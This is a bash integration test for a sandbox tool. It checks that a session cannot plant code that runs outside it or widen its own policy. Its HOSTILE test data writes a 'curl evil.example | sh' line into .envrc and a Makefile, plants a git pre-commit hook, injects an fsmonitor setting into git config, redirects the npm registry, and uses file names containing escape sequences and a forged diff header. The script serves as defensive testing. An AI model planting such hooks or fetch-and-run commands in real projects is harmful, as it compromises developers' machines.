#!/usr/bin/env bash
# Issue 22, item 1: a session cannot widen its own next session or plant code that runs outside it.
# In --project-mode rw, .sluice/ and .git are read-only inside (and a .git the session makes is put
# aside at exit); through the overlay, --apply, --save and `sluicectl session save` keep changes to
# protected paths (policy, VCS control files, editor tasks, direnv, package-manager rc files, build
# files, and the configuration's protected_paths) apart and apply them only when asked by name.
. "$SLUICE_SOURCE_DIR/tests/lib/tap.sh"
. "$SLUICE_SOURCE_DIR/tests/integration/sandbox_lib.sh"
CTL="$SLUICE_BUILD_DIR/tools/sluicectl/sluicectl"

# project MODE: a fresh project with a policy, a git repository, a Makefile and a nested Makefile.
project() {
	local p
	p=$(newdir "$1")
	git init -q "$p"
	rm -f "$p"/.git/hooks/*
	mkdir -p "$p/.sluice" "$p/sub"
	echo '{"allow": ["registry.npmjs.org"]}' >"$p/.sluice/policy.json"
	echo 'all:' >"$p/Makefile"
	echo 'all:' >"$p/sub/Makefile"
	echo '{"name": "x"}' >"$p/package.json"
	echo one >"$p/README"
	[ "$1" = root ] || chown -R "$TU:$TU" "$p"
	echo "$p"
}

# What the hostile command does through the overlay: one plain change, and protected ones of each kind.
HOSTILE='echo two > README; echo new > notes.txt
echo "{\"allow\": [\"evil.example\"]}" > .sluice/policy.json
printf "#!/bin/sh\necho pwned\n" > .git/hooks/pre-commit
printf "[core]\n\tfsmonitor = /tmp/x\n" > .git/config
echo "curl evil.example | sh" > .envrc
mkdir -p .vscode && echo "{\"tasks\": []}" > .vscode/tasks.json
echo "registry=http://evil.example/" > .npmrc
echo "	curl evil.example | sh" >> Makefile
rm sub/Makefile
echo "{\"scripts\": {\"test\": \"sh evil\"}}" > package.json'
UNCHANGED_CHECK='cat .sluice/policy.json .git/config Makefile sub/Makefile package.json; ls -a .git/hooks; ls -a'

for m in $MODES; do
	# ---- --project-mode rw ----
	P=$(project "$m")
	cd "$P" || exit 1
	before=$(sh -c "$UNCHANGED_CHECK" 2>&1)
	for target in .sluice/policy.json .sluice/new.json .git/config .git/hooks/pre-commit .git/commondir .git/info/attributes; do
		check_match "$m: rw: writing $target inside fails (read-only)" "Read-only file system" \
			"$(sb "$m" --project-mode rw -- sh -c "mkdir -p \$(dirname $target) 2>&1; echo x > $target" 2>&1)"
	done
	check_eq "$m: rw: an ordinary file is still written" "written" \
		"$(sb "$m" --project-mode rw -- sh -c 'echo written > plain.txt' >/dev/null 2>&1; cat plain.txt 2>&1)"
	check_match "$m: rw: git config --local inside fails" "[Rr]ead-only|could not lock|Permission" \
		"$(sb "$m" --project-mode rw -- git config --local core.hooksPath /tmp 2>&1)"
	check_eq "$m: rw: the policy, git config and hooks on the host are unchanged" "$before" \
		"$(sh -c "$UNCHANGED_CHECK" 2>&1 | grep -v plain.txt)"
	cd / || exit 1

	P=$(newdir "$m")
	cd "$P" || exit 1
	out=$(sb "$m" --project-mode rw -- sh -c 'mkdir -p .sluice; echo "{}" > .sluice/policy.json 2>&1; git init -q . && echo "echo pwned" > .git/hooks/post-checkout && echo made' 2>&1)
	check_match "$m: rw: with no .sluice/ at start, the session still cannot write one" "Read-only file system" "$out"
	check_eq "$m: rw: ... the empty .sluice/ it gets stays empty on the host" "" "$(ls -A .sluice 2>&1)"
	check_match "$m: rw: a .git the session made is reported" "created $P/.git; it was renamed" "$out"
	check_eq "$m: rw: ... and is renamed aside (git does not use it)" "absent 1" \
		"$(test -e .git && echo present || echo absent) $(find . -maxdepth 1 -name '.git.sluice-*' | wc -l)"
	cd / || exit 1

	P=$(newdir "$m")
	mkdir "$P/gitdir"
	ln -s gitdir "$P/.git"
	cd "$P" || exit 1
	check_eq "$m: rw: a .git that is a symlink is refused (125)" 125 "$(rc sb "$m" --project-mode rw -- true)"
	check_match "$m: rw: ... with a message naming it" "\.git is a symlink" "$(sb "$m" --project-mode rw -- true 2>&1)"
	cd / || exit 1

	# ---- --apply ----
	P=$(project "$m")
	cd "$P" || exit 1
	before=$(sh -c "$UNCHANGED_CHECK" 2>&1)
	out=$(sb "$m" --apply -- sh -c "$HOSTILE" 2>&1)
	check_eq "$m: --apply: plain changes are applied" "two new" "$(cat README) $(cat notes.txt)"
	check_eq "$m: --apply: no protected change is applied" "$before" \
		"$(sh -c "$UNCHANGED_CHECK" 2>&1 | grep -v notes.txt)"
	check_not "$m: --apply: no .envrc, .npmrc or .vscode appear" test -e .envrc -o -e .npmrc -o -e .vscode
	for f in .sluice/policy.json .git/hooks/pre-commit .git/config .envrc ".vscode/ (directory created)" \
		.vscode/tasks.json .npmrc Makefile "sub/Makefile (deleted)" package.json; do
		check_match "$m: --apply: the protected change to $f is listed" "^  $(sed 's/[.()]/\\&/g' <<<"$f")\$" "$out"
	done
	check_match "$m: --apply: and the user is told how to apply them" "sluicectl session save --protected" "$out"
	id=$(sed -n 's/.*session save --protected \([0-9a-f]\{16\}\).*/\1/p' <<<"$out" | head -1)
	check_match "$m: session save --patch shows the protected changes" '^\+.*evil\.example' \
		"$(as "$m" "$CTL" session save --patch "$id" 2>&1)"
	check "$m: session save --protected applies them" as "$m" "$CTL" session save --protected "$id"
	check_match "$m: ... the policy is the session's now (the user asked by name)" "evil.example" "$(cat .sluice/policy.json)"
	check_eq "$m: ... the nested Makefile deleted, the hook planted" "absent present" \
		"$(test -e sub/Makefile && echo present || echo absent) $(test -e .git/hooks/pre-commit && echo present || echo absent)"
	check_eq "$m: --apply: no session directory left" 0 "$(session_dirs "$m")"
	cd / || exit 1

	P=$(project "$m")
	cd "$P" || exit 1
	out=$(sb "$m" --apply --apply-protected -- sh -c "$HOSTILE" 2>&1)
	check_match "$m: --apply --apply-protected: they are listed as applied" "protected changes applied" "$out"
	check_eq "$m: --apply --apply-protected: the policy, hook and Makefile land" "evil present 2" \
		"$(grep -o evil .sluice/policy.json | head -1) $(test -e .git/hooks/pre-commit && echo present) $(wc -l <Makefile)"
	check_eq "$m: --apply --apply-protected: no session directory left" 0 "$(session_dirs "$m")"
	check_eq "$m: --apply-protected without --apply is refused (125)" 125 "$(rc sb "$m" --apply-protected -- true)"
	# the listing names what the command made: an escape sequence in a name must not erase lines above it
	out=$(sb "$m" --apply --apply-protected -- sh -c 'mkdir -p .git/hooks && echo x >"$(printf ".git/hooks/a\033[1A\033[2Kb")"' 2>&1)
	check_match "$m: --apply: a protected change's name is listed with its control bytes as ?" '^  \.git/hooks/a\?\[1A\?\[2Kb$' "$out"
	cd / || exit 1

	# the configuration adds to the set (user layer); the defaults stay
	P=$(project "$m")
	cd "$P" || exit 1
	mkdir -p "$(home "$m")/.config/sluice"
	echo '{"sandbox": {"protected_paths": ["deploy.cfg", "/tools/"]}}' >"$(home "$m")/.config/sluice/policy.json"
	[ "$m" = root ] || chown -R "$TU:$TU" "$(home "$m")/.config"
	out=$(sb "$m" --apply -- sh -c 'echo x > deploy.cfg; mkdir -p tools a/tools; echo y > tools/run.sh; echo z > a/tools/ok; echo m >> Makefile' 2>&1)
	check_eq "$m: protected_paths: deploy.cfg and /tools/ are kept back, a/tools/ (not at the root) is applied" \
		"absent absent z" "$(test -e deploy.cfg && echo present || echo absent) $(test -e tools && echo present || echo absent) $(cat a/tools/ok 2>&1)"
	check_eq "$m: protected_paths: the defaults still hold (Makefile)" 1 "$(wc -l <Makefile)"
	rm -f "$(home "$m")/.config/sluice/policy.json"
	as "$m" "$CTL" session discard "$(sed -n 's/.*discard \([0-9a-f]\{16\}\).*/\1/p' <<<"$out" | head -1)" >/dev/null
	cd / || exit 1

	# ---- --save ----
	P=$(project "$m")
	cd "$P" || exit 1
	out=$(sb "$m" --save -- sh -c "$HOSTILE" 2>&1)
	id=$(sed -n 's/.*session save \([0-9a-f]\{16\}\).*/\1/p' <<<"$out" | head -1)
	check_match "$m: --save: the protected changes are listed" "protected changes kept apart" "$out"
	patch=$(as "$m" "$CTL" session save --patch "$id" 2>&1)
	plain=$(sed '/^# ---- protected changes/,$d' <<<"$patch")
	check_match "$m: --save: changes.patch has the plain change" "^\+two" "$plain"
	check_not "$m: --save: ... and no protected file" grep -qE '^diff .*(\.sluice|\.git/|Makefile|\.npmrc|\.envrc|\.vscode|package\.json)' <<<"$plain"
	out=$(as "$m" "$CTL" session save "$id" 2>&1)
	check_match "$m: session save without --protected says what it left" "not its protected changes" "$out"
	check_eq "$m: ... applied the plain change, not the policy" "two registry.npmjs.org" \
		"$(cat README) $(grep -o registry.npmjs.org .sluice/policy.json)"
	check "$m: session save --protected then applies the rest" as "$m" "$CTL" session save --protected "$id"
	check_eq "$m: ... the policy changed, README applied once" "evil two" \
		"$(grep -o evil .sluice/policy.json | head -1) $(cat README)"
	check_eq "$m: --save: no session directory left" 0 "$(session_dirs "$m")"
	cd / || exit 1

	# a name with a newline could forge a diff header: no patch is written then
	P=$(project "$m")
	cd "$P" || exit 1
	out=$(sb "$m" --save -- sh -c 'mkdir -p "x
diff -ruN --no-dereference a" && echo x > "x
diff -ruN --no-dereference a/README b"; echo evil > .sluice/policy.json' 2>&1)
	check_match "$m: --save: a file name with a newline: no patch, a clear error" "control character" "$out"
	id=$(find "$( [ "$m" = root ] && echo "$ROOT_RT/sluice" || echo "/var/tmp/sluice-$TU_UID")" -mindepth 1 -maxdepth 1 -printf '%f\n' | head -1)
	check_not "$m: ... and session save cannot apply anything" as "$m" "$CTL" session save "$id"
	check_match "$m: ... the policy is untouched" "registry.npmjs.org" "$(cat .sluice/policy.json)"
	as "$m" "$CTL" session discard "$id" >/dev/null 2>&1 || rm -rf "$ROOT_RT/sluice/$id" "/var/tmp/sluice-$TU_UID/$id"
	cd / || exit 1

	# a policy an rw session (or a read-write --bind) could write is not used by the next session
	# until the user touches it: a nested project's, one written through a bind, a new one
	P=$(project "$m")
	Q=$(project "$m")
	cd "$P" || exit 1
	mkdir -p "$P/sub/.sluice"; echo '{}' >"$P/sub/.sluice/policy.json"
	[ "$m" = root ] || chown -R "$TU:$TU" "$P/sub"
	check "$m: rw: the session writes a nested project's policy" sb "$m" --project-mode rw -- sh -c \
		'echo "{\"sandbox\": {\"hostname\": \"widened\"}}" > sub/.sluice/policy.json'
	out=$(sb "$m" --project "$P/sub" -- hostname 2>&1)
	check_eq "$m: ... the next session there refuses it (125)" 125 "$?"
	check_match "$m: ... saying which session could write it and what to do" "changed while session [0-9a-f]{16} could write it.*touch" "$out"
	check_not "$m: ... and did not use it" grep -q widened <<<"$out"
	as "$m" touch "$P/sub/.sluice/policy.json"
	check_eq "$m: ... once the user touched it, it is used" "widened" "$(sb "$m" --project "$P/sub" -- hostname)"
	check "$m: --bind: a session writes another project's policy" sb "$m" --bind "$Q:/mnt/q" -- sh -c \
		'echo "{\"allow\": [\"evil.example\"]}" > /mnt/q/.sluice/policy.json'
	check_eq "$m: ... the next session in that project refuses it (125)" 125 "$(rc sb "$m" --project "$Q" -- true)"
	rm -rf "$Q/.sluice"
	check "$m: rw: a session creates a policy where there was none" sb "$m" --bind "$Q:/mnt/q" -- sh -c \
		'mkdir /mnt/q/.sluice && echo "{}" > /mnt/q/.sluice/policy.json'
	check_eq "$m: ... refused as well (125)" 125 "$(rc sb "$m" --project "$Q" -- true)"
	as "$m" touch "$Q/.sluice/policy.json"
	check "$m: ... and used once touched" sb "$m" --project "$Q" -- true
	check "$m: an overlay session's project policy stays trusted" sb "$m" --project "$P" -- true
	H=$(home "$m")
	mkdir -p "$H/.config/sluice"; echo '{}' >"$H/.config/sluice/policy.json"
	[ "$m" = root ] || chown -R "$TU:$TU" "$H/.config"
	check "$m: --bind ~/.config: a session writes the user's policy" sb "$m" --bind "$H/.config:/mnt/cfg" -- sh -c \
		'echo "{\"allow\": [\"evil.example\"]}" > /mnt/cfg/sluice/policy.json'
	check_match "$m: ... the next session refuses it (125) and names it" "config/sluice/policy.json was changed while session" \
		"$(sb "$m" --project "$P" -- true 2>&1)"
	rm -rf "$H/.config/sluice"
	cd / || exit 1
done
done_testing
